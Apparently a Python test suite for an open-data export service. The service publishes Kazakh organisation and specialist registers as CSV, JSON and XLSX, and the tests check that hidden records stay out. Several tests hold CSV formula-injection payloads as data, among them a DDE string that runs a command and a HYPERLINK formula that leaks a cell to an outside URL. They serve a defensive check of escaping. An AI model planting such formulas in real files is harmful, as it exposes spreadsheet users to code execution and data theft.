"""/open-data/: the index, and the public registers as CSV, JSON and XLSX in kk and ru."""

from __future__ import annotations

import contextlib
import csv
import io
import tempfile
import zipfile
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import anyio
import httpx
import orjson
import pytest
from sqlalchemy import select, text, update
from sqlalchemy.ext.asyncio import AsyncEngine
from starlette.applications import Starlette
from starlette.types import Message

import open_data
import storage.open_data
from domain.labels import Lang
from domain.licence_events import LicenceEventKind
from domain.open_data import DATASETS, Dataset, ExportFormat, experience_text
from domain.regions import Region
from domain.register import ClientCategory, ServiceCondition
from domain.specialist_codes import EducationLevel, QualificationCategory
from domain.specialist_form import Education, Employment, Qualification
from domain.viewer import Role, Viewer
from resolvers.ids import decode_typed_id
from server import create_app
from storage import licences
from storage.changes import Entity, record_change
from storage.engine import write_transaction
from storage.organizations import LIC, ORG
from storage.register_writes import append_licence_event, record_consent
from storage.specialist_writes import record_specialist_consent
from tests.conftest import StatementCounter
from tests.factories import NOW, add_organization, make_bin
from tests.http.test_graphql_http import _unreachable
from tests.specialists.flow import add_specialist

CANARY = "qz-канарейка-7f3a"  # in every text of every hidden record
CANARY_ASCII = "qzcanary7f3a"
HIDDEN_PHONE = "+77779990001"
LANGS = ("kk", "ru")
FORMATS = tuple(f.value for f in ExportFormat)
DATASET_NAMES = tuple(d.value for d in Dataset)
XLSX_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}

ORGANIZATION_HEADERS = {
    "kk": [
        "№",
        "Ұйымның атауы",
        "бизнес-сәйкестендіру нөмірі",
        "Мекенжайы",
        "Қызмет көрсету шарты",
        "Қызмет алушылар санаты",
        "Ұйымның жалпы қуаттылығы",
        "Байланыс мәліметтері: телефон",
        "Байланыс мәліметтері: электрондық пошта мекенжайы",
        "Лицензиялау: берілген күні",
        "Лицензиялау: лицензияның қолдану мерзімі",
        "Лицензияның қайта рәсімдеу күні",
        "Қызмет көрсету келісім шарты: бекітілген күні",
        "Қызмет көрсету келісім шарты: шарт мерзімі",
        "Енгізілген күні",
        "Лицензияның қолданысы тоқтатылған күні",
        "Тіркеуден шығару негізі",
    ],
    "ru": [
        "№",
        "Наименование организации",
        "Бизнес-идентификационный номер",
        "Юридический адрес",
        "Условия предоставления услуг",
        "Контингент",
        "Общая мощность организации",
        "Контактные данные: телефон",
        "Контактные данные: адрес электронной почты",
        "Лицензирование: дата выдачи",
        "Лицензирование: срок действия лицензии",
        "Дата переоформления лицензии",
        "Договор на оказание услуг: дата заключения",
        "Договор на оказание услуг: срок договора",
        "Дата включения",
        "Дата прекращения действия лицензии",
        "Основания снятия",
    ],
}

SPECIALIST_HEADERS = {
    "kk": [
        "маманның тегі, аты, әкесінің аты (бар болса)",
        "туған күні",
        "байланыс деректері (ұялы телефон, электрондық пошта мекенжайы)",
        "тұрғылықты мекенжайы (облыс, елді мекен, тіркелген мекенжайы)",
        "кәсіп атауы",
        "арнаулы әлеуметтік қызметтер көрсету саласындағы жұмыс өтілі",
        "білімі туралы мәліметтер (білім деңгейі, оқу орнының атауы, басталу күні, аяқталу "
        "күні, білімі туралы құжат)",
        "еңбек қызметі жөніндегі мәліметтер (ұйымның атауы, БСН, лауазымы, жұмыс басталған "
        "күні, аяқталған күні)",
        "біліктілік санатын беру туралы ақпарат (біліктілік санаты, біліктілік санатын беру "
        "күні, аттестаттау комиссиясының деректері (уәкілетті органның атауы))",
        "тізілімге енгізілген күні",
    ],
    "ru": [
        "фамилия, имя, отчество (при его наличии) специалиста",
        "дата рождения",
        "контактные данные (мобильный телефон, адрес электронной почты)",
        "адрес проживания (область, населенный пункт, адрес регистрации)",
        "наименование профессии",
        "стаж работы в сфере оказания специальных социальных услуг",
        "сведения об образовании (уровень образования, наименование учебного заведения, дата "
        "начала, дата окончания, документ об образовании)",
        "сведения о трудовой деятельности (наименование организации, БИН, должность, дата "
        "начала работы, дата окончания)",
        "информация о присвоении квалификационной категории (квалификационная категория, "
        "дата присвоения квалификационной категории, данные аттестационной комиссии "
        "(наименование уполномоченного органа))",
        "дата включения в реестр",
    ],
}
HEADERS = {"organizations": ORGANIZATION_HEADERS, "specialists": SPECIALIST_HEADERS}


# --- the registers ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Registers:
    visible_bin: str
    removed_bin: str
    hidden_bin: str
    employer_bin: str


LICENSOR = Viewer(Role.LICENSOR, subject="Жақсыбеков А.")


async def included(engine: AsyncEngine, organization_id: int, *, public: bool = True) -> None:
    """The change-feed row of an inclusion, which add_organization does not write."""
    async with write_transaction(engine) as conn:
        await record_change(
            conn, Entity.ORGANIZATION, organization_id, NOW, False, public, created=True
        )


async def hide_everything_in(engine: AsyncEngine, organization_id: int) -> None:
    """The texts add_organization does not take, carrying the canary too; and a change newer
    than any public one (stamped and in the feed), which the index must not show."""
    async with write_transaction(engine) as conn:
        later = NOW + timedelta(days=1)
        await record_change(conn, Entity.ORGANIZATION, organization_id, later, False, False)
        await conn.execute(
            update(ORG)
            .where(ORG.c.id == organization_id)
            .values(
                legal_address_kk=f"{CANARY} мекенжай",
                legal_address_ru=f"{CANARY} адрес",
                removal_grounds_kk=f"{CANARY} негіз",
                removal_grounds_ru=f"{CANARY} основание",
                updated_at=NOW + timedelta(days=1),
            )
        )


def hidden_specialist(**consents: bool) -> dict[str, Any]:
    return {
        "surname": f"{CANARY}ова",
        "given_name": CANARY,
        "patronymic": CANARY,
        "mobile_phone": HIDDEN_PHONE,
        "email": f"{CANARY_ASCII}@mail.kz",
        "region": Region.PAVLODAR,
        "settlement_kk": CANARY,
        "settlement_ru": CANARY,
        "address_kk": CANARY,
        "address_ru": CANARY,
        "profession_kk": CANARY,
        "profession_ru": CANARY,
        "education": (
            Education(
                EducationLevel.HIGHER, CANARY, CANARY, date(2000, 9, 1), date(2004, 6, 30), CANARY
            ),
        ),
        "employment": (
            Employment(CANARY, CANARY, make_bin(), CANARY, CANARY, date(2005, 1, 1), None),
        ),
        "qualification": Qualification(
            QualificationCategory.HIGHEST, date(2021, 1, 1), CANARY, CANARY
        ),
        **consents,
    }


@pytest.fixture
async def registers(engine: AsyncEngine) -> Registers:
    visible_bin, removed_bin, hidden_bin = make_bin(), make_bin(), make_bin()
    visible = await add_organization(
        engine,
        name_kk="«Қамқор» ЖШС",
        name_ru="ТОО «Қамқор»",
        bin=visible_bin,
        region=Region.KARAGANDA,
        conditions=(ServiceCondition.INPATIENT, ServiceCondition.HOME),
        categories=(ClientCategory.HOMELESS, ClientCategory.TRAFFICKING_VICTIMS),
        included_on=date(2024, 1, 15),
        licences=2,
        contracts=2,
    )
    await included(engine, visible)
    removed = await add_organization(
        engine,
        name_kk="«Шапағат» ЖШС",
        name_ru="ТОО «Шапағат»",
        bin=removed_bin,
        included_on=date(2023, 5, 1),
        removed_on=date(2025, 3, 1),
        phone=None,
        email=None,
    )
    await included(engine, removed)
    hidden = await add_organization(
        engine,
        name_kk=f"{CANARY} ЖШС",
        name_ru=f"ТОО {CANARY}",
        bin=hidden_bin,
        consent=False,
        included_on=date(2023, 6, 1),
        phone=HIDDEN_PHONE,
        email=f"{CANARY_ASCII}@example.kz",
        contracts=1,
    )
    await included(engine, hidden, public=False)
    await hide_everything_in(engine, hidden)
    employer_bin = make_bin()
    await add_specialist(
        engine,
        included_on=date(2025, 6, 2),
        surname="Сейітова",
        given_name="Айгүл",
        patronymic="Серікқызы",
        birth_date=date(1985, 3, 15),
        mobile_phone="+77015551234",
        email="aigul@mail.kz",
        region=Region.KARAGANDA,
        settlement_kk="Қарағанды қ.",
        settlement_ru="г. Караганда",
        address_kk="Ерубаев к., 1",
        address_ru="ул. Ерубаева, 1",
        profession_kk="әлеуметтік жұмыс жөніндегі маман",
        profession_ru="специалист по социальной работе",
        experience_years=8,
        experience_months=4,
        education=(
            Education(
                EducationLevel.HIGHER,
                "Қарағанды университеті",
                "Карагандинский университет",
                date(2003, 9, 1),
                date(2007, 6, 30),
                "Д-1",
            ),
            Education(
                EducationLevel.POSTGRADUATE,
                "Қарағанды университеті",
                "Карагандинский университет",
                date(2008, 9, 1),
                date(2010, 6, 30),
                "М-2",
            ),
        ),
        employment=(
            Employment(
                "«Жан» ЖШС",
                "ТОО «Жан»",
                employer_bin,
                "психолог",
                "психолог",
                date(2010, 1, 1),
                date(2015, 12, 31),
            ),
            Employment(
                "«Қамқор» ЖШС",
                "ТОО «Қамқор»",
                visible_bin,
                "әлеуметтік қызметкер",
                "социальный работник",
                date(2016, 1, 1),
                None,
            ),
        ),
        qualification=Qualification(
            QualificationCategory.FIRST,
            date(2022, 5, 20),
            "Аттестаттау комиссиясы",
            "Аттестационная комиссия",
        ),
    )
    await add_specialist(
        engine, included_on=date(2025, 6, 3), **hidden_specialist(specialist_consent=False)
    )
    await add_specialist(
        engine, included_on=date(2025, 6, 1), **hidden_specialist(organization_consent=False)
    )
    return Registers(visible_bin, removed_bin, hidden_bin, employer_bin)


def organization_rows(r: Registers, lang: str) -> list[list[str]]:
    if lang == "kk":
        return [
            [
                "1",
                "«Шапағат» ЖШС",
                r.removed_bin,
                "Астана қ., Мәңгілік Ел даңғылы, 8",
                "стационар",
                "егде жасына байланысты өзіне қызмет көрсетуге мүмкіндігі жоқ адамдар",
                "120",
                "",
                "",
                "2023-05-01",
                "мерзімсіз",
                "",
                "",
                "",
                "2023-05-01",
                "2025-03-01",
                "Лицензиаттың өтініші",
            ],
            [
                "2",
                "«Қамқор» ЖШС",
                r.visible_bin,
                "Қарағанды облысы, Астана қ., Мәңгілік Ел даңғылы, 8",
                "стационар; үйде",
                "белгілі бір тұрғылықты жері жоқ адамдар; адам саудасының құрбандары",
                "120",
                "+77172000000",
                "info@example.kz",
                "2025-01-15",
                "мерзімсіз",
                "",
                "2025-02-10",
                "2026-02-10",
                "2024-01-15",
                "",
                "",
            ],
        ]
    return [
        [
            "1",
            "ТОО «Шапағат»",
            r.removed_bin,
            "г. Астана, проспект Мангилик Ел, 8",
            "стационар",
            "лица, не способные к самостоятельному обслуживанию в связи с преклонным возрастом",
            "120",
            "",
            "",
            "2023-05-01",
            "бессрочная",
            "",
            "",
            "",
            "2023-05-01",
            "2025-03-01",
            "По заявлению лицензиата",
        ],
        [
            "2",
            "ТОО «Қамқор»",
            r.visible_bin,
            "Карагандинская область, г. Астана, проспект Мангилик Ел, 8",
            "стационар; на дому",
            "лица без определенного места жительства; жертвы торговли людьми",
            "120",
            "+77172000000",
            "info@example.kz",
            "2025-01-15",
            "бессрочная",
            "",
            "2025-02-10",
            "2026-02-10",
            "2024-01-15",
            "",
            "",
        ],
    ]


def specialist_rows(r: Registers, lang: str) -> list[list[str]]:
    if lang == "kk":
        return [
            [
                "Сейітова Айгүл Серікқызы",
                "1985-03-15",
                "+77015551234, aigul@mail.kz",
                "Қарағанды облысы, Қарағанды қ., Ерубаев к., 1",
                "әлеуметтік жұмыс жөніндегі маман",
                "8 жыл 4 ай",
                "жоғары білім, Қарағанды университеті, 2003-09-01, 2007-06-30, Д-1; "
                "жоғары оқу орнынан кейінгі білім (магистратура, докторантура), "
                "Қарағанды университеті, 2008-09-01, 2010-06-30, М-2",
                f"«Жан» ЖШС, {r.employer_bin}, психолог, 2010-01-01, 2015-12-31; "
                f"«Қамқор» ЖШС, {r.visible_bin}, әлеуметтік қызметкер, 2016-01-01, "
                "қазіргі уақытқа дейін",
                "бірінші санат, 2022-05-20, Аттестаттау комиссиясы",
                "2025-06-02",
            ],
        ]
    return [
        [
            "Сейітова Айгүл Серікқызы",
            "1985-03-15",
            "+77015551234, aigul@mail.kz",
            "Карагандинская область, г. Караганда, ул. Ерубаева, 1",
            "специалист по социальной работе",
            "8 лет 4 месяца",
            "высшее, Карагандинский университет, 2003-09-01, 2007-06-30, Д-1; "
            "послевузовское (магистратура, докторантура), Карагандинский университет, "
            "2008-09-01, 2010-06-30, М-2",
            f"ТОО «Жан», {r.employer_bin}, психолог, 2010-01-01, 2015-12-31; "
            f"ТОО «Қамқор», {r.visible_bin}, социальный работник, 2016-01-01, по настоящее время",
            "первая категория, 2022-05-20, Аттестационная комиссия",
            "2025-06-02",
        ],
    ]


EXPECTED = {"organizations": organization_rows, "specialists": specialist_rows}


# --- reading the files back ------------------------------------------------------------------


@dataclass
class Table:
    header: list[str] | None  # JSON has keys, not a header row
    rows: list[list[str]]
    bold_header: bool = False


def _column_index(reference: str) -> int:
    index = 0
    for letter in reference.rstrip("0123456789"):
        index = index * 26 + ord(letter) - ord("A") + 1
    return index - 1


def _xml(data: bytes) -> ElementTree.Element:
    return ElementTree.fromstring(data)  # noqa: S314  (our own output, in a test)


def xlsx_sheets(content: bytes) -> list[Table]:
    """Every sheet of a workbook as text: dates (cells in a yyyy-mm-dd format) as ISO dates."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = set(archive.namelist())
        styles = _xml(archive.read("xl/styles.xml"))
        date_formats = {
            int(f.get("numFmtId", "0"))
            for f in styles.iterfind("m:numFmts/m:numFmt", XLSX_NS)
            if f.get("formatCode") == "yyyy-mm-dd"
        }
        fonts = [
            f.find("m:b", XLSX_NS) is not None for f in styles.iterfind("m:fonts/m:font", XLSX_NS)
        ]
        xfs = [
            (int(xf.get("numFmtId", "0")), fonts[int(xf.get("fontId", "0"))])
            for xf in styles.iterfind("m:cellXfs/m:xf", XLSX_NS)
        ]
        shared: list[str] = []
        if "xl/sharedStrings.xml" in names:
            strings = _xml(archive.read("xl/sharedStrings.xml"))
            shared = [
                "".join(t.text or "" for t in si.iterfind(".//m:t", XLSX_NS))
                for si in strings.iterfind("m:si", XLSX_NS)
            ]
        tables = []
        number = 1
        while f"xl/worksheets/sheet{number}.xml" in names:
            sheet = _xml(archive.read(f"xl/worksheets/sheet{number}.xml"))
            rows: list[list[str]] = []
            bold = True
            for row_index, row in enumerate(sheet.iterfind("m:sheetData/m:row", XLSX_NS)):
                cells: dict[int, str] = {}
                for cell in row.iterfind("m:c", XLSX_NS):
                    kind, style = cell.get("t"), int(cell.get("s", "0"))
                    if kind == "inlineStr":
                        value = "".join(t.text or "" for t in cell.iterfind("m:is//m:t", XLSX_NS))
                    elif kind == "s":
                        value = shared[int(cell.findtext("m:v", "", XLSX_NS))]
                    else:
                        number_value = float(cell.findtext("m:v", "", XLSX_NS))
                        if xfs[style][0] in date_formats:
                            value = (date(1899, 12, 30) + timedelta(days=number_value)).isoformat()
                        else:
                            value = str(int(number_value))
                    if row_index == 0:
                        bold = bold and xfs[style][1]
                    cells[_column_index(cell.get("r", ""))] = value
                rows.append([cells.get(i, "") for i in range(max(cells, default=-1) + 1)])
            width = len(rows[0])  # a row's trailing empty cells are not written
            rows = [row + [""] * (width - len(row)) for row in rows]
            tables.append(Table(rows[0], rows[1:], bold_header=bold))
            number += 1
    return tables


def _json_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, list):
        return "; ".join(value)
    return str(value)


def table(content: bytes, fmt: str, dataset: str) -> Table:
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        return Table(rows[0], rows[1:])
    if fmt == "json":
        objects = orjson.loads(content)
        codes = [c.code for c in DATASETS[Dataset(dataset)].columns]
        assert all(list(o) == codes for o in objects)
        return Table(None, [[_json_text(o[code]) for code in codes] for o in objects])
    (sheet,) = xlsx_sheets(content)
    return sheet


def every_byte(content: bytes, fmt: str) -> bytes:
    """What a reader of the file could see: an XLSX's parts uncompressed."""
    if fmt != "xlsx":
        return content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


async def download(client: httpx.AsyncClient, dataset: str, fmt: str, lang: str) -> bytes:
    response = await client.get(f"/open-data/{dataset}.{fmt}", params={"lang": lang})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == ExportFormat(fmt).media_type
    assert response.headers["content-disposition"] == (
        f'attachment; filename="{dataset}-{lang}.{fmt}"'
    )
    assert response.headers["cache-control"] == "public, no-cache"
    assert response.headers["etag"].startswith('W/"')
    return response.content


# --- the index -------------------------------------------------------------------------------


async def test_the_index_lists_both_registers_with_their_public_rows_only(
    client: httpx.AsyncClient, registers: Registers
) -> None:
    response = await client.get("/open-data/")
    assert response.status_code == 200
    assert response.headers["cache-control"] == "public, no-cache"
    assert response.headers["etag"].startswith('W/"')
    index = response.json()
    organizations, specialists = index["datasets"]
    assert organizations["name"] == "organizations"
    assert organizations["rows"] == 2  # the hidden organisation is not counted
    assert organizations["title"] == {
        "kk": "Арнаулы әлеуметтік қызметтер көрсететін ұйымдардың тіркелімі",
        "ru": "Регистр организаций, предоставляющих специальные социальные услуги",
    }
    assert organizations["description"]["kk"]
    assert organizations["description"]["ru"]
    assert specialists["name"] == "specialists"
    assert specialists["rows"] == 1  # neither specialist without both consents
    assert (
        specialists["title"]["ru"]
        == "Реестр специалистов, оказывающих специальные социальные услуги"
    )
    assert (
        specialists["title"]["kk"] == "Арнаулы әлеуметтік қызметтер көрсететін мамандардың тізілімі"
    )
    # The hidden organisation changed a day later: its stamp is not the register's.
    assert organizations["lastModified"] == NOW.isoformat()
    assert specialists["lastModified"] == "2025-06-02T05:00:00+00:00"
    for dataset in (organizations, specialists):
        name = dataset["name"]
        assert [f["url"] for f in dataset["formats"]] == [
            f"/open-data/{name}.csv",
            f"/open-data/{name}.json",
            f"/open-data/{name}.xlsx",
        ]
        assert dataset["formats"][0]["urls"] == {
            "kk": f"/open-data/{name}.csv?lang=kk",
            "ru": f"/open-data/{name}.csv?lang=ru",
        }
        assert dataset["formats"][2]["mediaType"].endswith("spreadsheetml.sheet")
        assert dataset["licence"]["code"] == "CC-BY-4.0"
        assert dataset["licence"]["url"] == "https://creativecommons.org/licenses/by/4.0/"
        assert [c["kk"] for c in dataset["columns"]] == HEADERS[name]["kk"]
        assert [c["ru"] for c in dataset["columns"]] == HEADERS[name]["ru"]
        assert [c["number"] for c in dataset["columns"]] == list(
            range(1, len(HEADERS[name]["kk"]) + 1)
        )
    assert organizations["columns"][2]["code"] == "bin"
    assert CANARY not in response.text


async def test_the_index_of_empty_registers_counts_nothing(client: httpx.AsyncClient) -> None:
    datasets = (await client.get("/open-data/")).json()["datasets"]
    assert [(d["rows"], d["lastModified"]) for d in datasets] == [(0, None), (0, None)]


async def last_modified(client: httpx.AsyncClient) -> dict[str, tuple[int, str | None]]:
    datasets = (await client.get("/open-data/")).json()["datasets"]
    return {d["name"]: (d["rows"], d["lastModified"]) for d in datasets}


async def test_last_modified_moves_with_a_withdrawal_and_not_with_a_hidden_change(
    client: httpx.AsyncClient, engine: AsyncEngine
) -> None:
    shown = await add_organization(engine)
    await included(engine, shown)
    hidden = await add_organization(engine, consent=False)
    await included(engine, hidden, public=False)
    specialist = decode_typed_id(await add_specialist(engine), "Specialist")
    assert await last_modified(client) == {
        "organizations": (1, NOW.isoformat()),
        "specialists": (1, "2025-06-02T05:00:00+00:00"),
    }

    withdrawn = NOW + timedelta(hours=1)
    async with write_transaction(engine) as conn:
        await record_consent(conn, shown, False, at=withdrawn, actor=LICENSOR)
        await record_specialist_consent(
            conn,
            specialist,
            specialist_consent=False,
            organization_consent=True,
            at=withdrawn,
            actor=LICENSOR,
        )
    # Empty registers that say when they changed: a harvester polling lastModified refetches
    # and drops the withdrawn rows.
    after_withdrawal = {
        "organizations": (0, withdrawn.isoformat()),
        "specialists": (0, withdrawn.isoformat()),
    }
    assert await last_modified(client) == after_withdrawal

    later = NOW + timedelta(hours=2)
    async with write_transaction(engine) as conn:  # changes to records hidden at the time
        await licences.update_organization(conn, hidden, {"total_capacity": 7}, at=later)
        await licences.update_organization(conn, shown, {"total_capacity": 8}, at=later)
        await record_specialist_consent(
            conn,
            specialist,
            specialist_consent=False,
            organization_consent=False,
            at=later,
            actor=LICENSOR,
        )
    assert await last_modified(client) == after_withdrawal


async def test_a_reissue_changing_only_licence_columns_moves_last_modified(
    client: httpx.AsyncClient, engine: AsyncEngine
) -> None:
    """What resolvers.licences does for a reissue that changes the service place alone: the
    licence gets a reissue date (column 12), the organisation's own row is not written."""
    organization = await add_organization(engine)
    await included(engine, organization)
    reissued = NOW + timedelta(days=2)
    async with write_transaction(engine) as conn:
        licence_id = await conn.scalar(
            select(LIC.c.id).where(LIC.c.organization_id == organization, LIC.c.is_current)
        )
        assert licence_id is not None
        await licences.bump_licence(conn, licence_id, {"reissued_on": reissued.date()})
        kind = LicenceEventKind.REISSUED.value
        await append_licence_event(conn, licence_id, at=reissued, actor=LICENSOR, kind=kind)
    assert (await last_modified(client))["organizations"] == (1, reissued.isoformat())
    (row,) = table(await download(client, "organizations", "csv", "ru"), "csv", "_").rows
    assert row[11] == reissued.date().isoformat()


# --- the files -------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("dataset", DATASET_NAMES)
async def test_a_register_exports_its_public_rows_under_the_official_headers(
    client: httpx.AsyncClient, registers: Registers, dataset: str, fmt: str, lang: str
) -> None:
    content = await download(client, dataset, fmt, lang)
    exported = table(content, fmt, dataset)
    if exported.header is not None:
        assert exported.header == HEADERS[dataset][lang]
    expected = EXPECTED[dataset](registers, lang)
    if fmt == "csv":  # the phones start with +
        expected = [[spreadsheet_safe(cell) for cell in row] for row in expected]
        assert "'+77" in "".join(cell for row in exported.rows for cell in row)
    assert exported.rows == expected
    everything = every_byte(content, fmt)
    for secret in (CANARY, CANARY_ASCII, HIDDEN_PHONE, registers.hidden_bin):
        assert secret.encode() not in everything
    if fmt == "csv":
        assert content.startswith(b"\xef\xbb\xbf")
        assert content.count(b"\r\n") == len(exported.rows) + 1
        assert b"\n" not in content.replace(b"\r\n", b"")
    if fmt == "xlsx":
        assert exported.bold_header


async def test_the_default_language_is_kazakh_and_ru_may_be_written_in_capitals(
    client: httpx.AsyncClient,
) -> None:
    default = await client.get("/open-data/organizations.csv")
    capitals = await client.get("/open-data/organizations.csv?lang=RU")
    assert default.content.decode("utf-8-sig").startswith("№,Ұйымның атауы,")
    assert 'filename="organizations-kk.csv"' in default.headers["content-disposition"]
    assert capitals.content.decode("utf-8-sig").startswith("№,Наименование организации,")


@pytest.mark.parametrize("fmt", FORMATS)
async def test_an_empty_register_is_the_header_alone(client: httpx.AsyncClient, fmt: str) -> None:
    content = await download(client, "specialists", fmt, "ru")
    exported = table(content, fmt, "specialists")
    assert exported.rows == []
    if exported.header is not None:
        assert exported.header == SPECIALIST_HEADERS["ru"]


async def test_csv_quotes_commas_quotes_and_line_breaks_as_rfc_4180_says(
    client: httpx.AsyncClient, engine: AsyncEngine
) -> None:
    await add_organization(engine, name_ru='ТОО "А, Б"\r\nВ')
    content = await download(client, "organizations", "csv", "ru")
    assert b'\r\n1,"\xd0\xa2\xd0\x9e\xd0\x9e ""\xd0\x90, \xd0\x91""\r\n\xd0\x92",' in content
    assert table(content, "csv", "organizations").rows[0][1] == 'ТОО "А, Б"\r\nВ'


FORMULA_NAME = '=HYPERLINK("http://example.com/x?"&A1,"Подробнее")'
FORMULA_ADDRESS = "-2+3+cmd|' /C calc'!A0"
FORMULA_SURNAME = "@SUM(1+1)"


def spreadsheet_safe(cell: str) -> str:
    """The rule the index documents: a CSV cell starting with = + - @ TAB CR or ' gets a '."""
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "'") else cell


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+77172000000", "'+77172000000"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'quoted", "''quoted"),  # so that dropping one leading ' always gives the value back
        ("ТОО =1+1", "ТОО =1+1"),
        ("", ""),
    ],
)
def test_a_csv_cell_excel_would_read_as_a_formula_gets_a_leading_apostrophe(
    text: str, written: str
) -> None:
    (row,) = csv.reader(io.StringIO(open_data._csv_lines([[text, 1]]).decode(), newline=""))
    assert row == [written, "1"]


async def test_free_text_that_excel_would_run_is_text_in_every_format(
    client: httpx.AsyncClient, engine: AsyncEngine
) -> None:
    organization = await add_organization(engine, name_ru=FORMULA_NAME, name_kk=FORMULA_NAME)
    async with write_transaction(engine) as conn:
        await conn.execute(
            update(ORG)
            .where(ORG.c.id == organization)
            .values(legal_address_ru=FORMULA_ADDRESS, legal_address_kk=FORMULA_ADDRESS)
        )
    await add_specialist(engine, surname=FORMULA_SURNAME)

    organizations = table(await download(client, "organizations", "csv", "ru"), "csv", "_")
    specialists = table(await download(client, "specialists", "csv", "ru"), "csv", "_")
    ((_, name, _, address, *_, ),) = organizations.rows  # fmt: skip
    assert (name, address) == ("'" + FORMULA_NAME, "'" + FORMULA_ADDRESS)
    assert organizations.rows[0][7] == "'+77172000000"  # a phone too: Excel reads + as a formula
    assert specialists.rows[0][0].startswith("'" + FORMULA_SURNAME + " ")
    assert organizations.header == ORGANIZATION_HEADERS["ru"]

    as_json = orjson.loads(await download(client, "organizations", "json", "ru"))
    assert (as_json[0]["name"], as_json[0]["legalAddress"]) == (FORMULA_NAME, FORMULA_ADDRESS)
    assert as_json[0]["phone"] == "+77172000000"

    workbook = await download(client, "organizations", "xlsx", "ru")
    (sheet,) = xlsx_sheets(workbook)
    assert (sheet.rows[0][1], sheet.rows[0][3]) == (FORMULA_NAME, FORMULA_ADDRESS)
    assert b"<f>" not in every_byte(workbook, "xlsx")  # strings, never formulas

    index = (await client.get("/open-data/")).json()
    for dataset in index["datasets"]:
        csv_format, json_format, xlsx_format = dataset["formats"]
        assert csv_format["formulaEscape"] == {
            "prefix": "'",
            "when": ["=", "+", "-", "@", "\t", "\r", "'"],
        }
        assert "formulaEscape" not in json_format
        assert "formulaEscape" not in xlsx_format


# --- batches ---------------------------------------------------------------------------------


async def test_the_export_reads_in_keyset_batches_and_every_row_comes_once_in_order(
    client: httpx.AsyncClient,
    engine: AsyncEngine,
    sql_counter: StatementCounter,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(storage.open_data, "BATCH_SIZE", 2)
    # Three on 2 January: a batch boundary falls between rows of one date (ties go by id).
    days = {"ТОО Е": 5, "ТОО А": 1, "ТОО Д": 4, "ТОО Б1": 2, "ТОО Б2": 2, "ТОО Б3": 2}
    for name, day in days.items():
        await add_organization(engine, name_ru=name, included_on=date(2024, 1, day))
    await add_organization(engine, name_ru=CANARY, consent=False, included_on=date(2024, 1, 2))
    for day in (3, 1, 2):
        await add_specialist(engine, surname=f"Маман{day}", included_on=date(2025, 1, day))
    sql_counter.statements.clear()

    organizations = table(await download(client, "organizations", "csv", "ru"), "csv", "_")
    pages = [s for s in sql_counter.statements if "FROM organization" in s and "LIMIT" in s]
    specialists = table(await download(client, "specialists", "json", "ru"), "json", "specialists")

    assert [row[0] for row in organizations.rows] == ["1", "2", "3", "4", "5", "6"]
    names = [row[1] for row in organizations.rows]
    assert sorted(names) == sorted(days)  # each exactly once, the hidden one never
    assert [days[name] for name in names] == [1, 2, 2, 2, 4, 5]
    assert [row[14] for row in organizations.rows] == sorted(row[14] for row in organizations.rows)
    assert len(pages) == 4  # 2 + 2 + 2 rows, then an empty read ends the register
    assert [row[0].split()[0] for row in specialists.rows] == ["Маман1", "Маман2", "Маман3"]


async def test_a_register_longer_than_a_sheet_continues_on_the_next_one(
    client: httpx.AsyncClient, engine: AsyncEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(open_data, "XLSX_ROWS_PER_SHEET", 3)  # the header and two rows
    for day in range(1, 6):
        await add_organization(engine, name_kk=f"Ұйым {day}", included_on=date(2024, 1, day))
    sheets = xlsx_sheets(await download(client, "organizations", "xlsx", "kk"))
    assert [sheet.header == ORGANIZATION_HEADERS["kk"] for sheet in sheets] == [True] * 3
    assert [row[1] for sheet in sheets for row in sheet.rows] == [
        f"Ұйым {day}" for day in range(1, 6)
    ]


# --- cell texts ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("years", "months", "kk", "ru"),
    [
        (1, 0, "1 жыл", "1 год"),
        (2, 1, "2 жыл 1 ай", "2 года 1 месяц"),
        (5, 0, "5 жыл", "5 лет"),
        (11, 11, "11 жыл 11 ай", "11 лет 11 месяцев"),
        (21, 2, "21 жыл 2 ай", "21 год 2 месяца"),
        (0, 3, "3 ай", "3 месяца"),
        (0, 0, "0 ай", "0 месяцев"),
    ],
)
def test_experience_reads_as_years_and_months_in_either_language(
    years: int, months: int, kk: str, ru: str
) -> None:
    assert experience_text(years, months, Lang.KK) == kk
    assert experience_text(years, months, Lang.RU) == ru


# --- refusals --------------------------------------------------------------------------------


async def test_a_language_other_than_kk_or_ru_is_a_coded_400(client: httpx.AsyncClient) -> None:
    response = await client.get("/open-data/organizations.csv?lang=en")
    assert response.status_code == 400
    assert response.headers["content-type"] == "application/json"
    assert response.json()["errors"][0]["extensions"]["code"] == "BAD_REQUEST"


@pytest.mark.parametrize(
    "path",
    [
        "/open-data/licences.csv",
        "/open-data/organizations.pdf",
        "/open-data/organizations",
        "/open-data/specialists.csv.gz",
    ],
)
async def test_an_unknown_dataset_or_format_is_a_coded_404(
    client: httpx.AsyncClient, path: str
) -> None:
    response = await client.get(path)
    assert response.status_code == 404
    assert response.json()["errors"][0]["extensions"]["code"] == "NOT_FOUND"


async def test_a_dead_database_is_a_coded_503_before_anything_is_sent(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(open_data, "MAX_EXPORTS", 1)
    connect = AsyncEngine.connect
    monkeypatch.setattr(AsyncEngine, "connect", _unreachable)
    for path in ("/open-data/", "/open-data/specialists.xlsx"):
        response = await client.get(path)
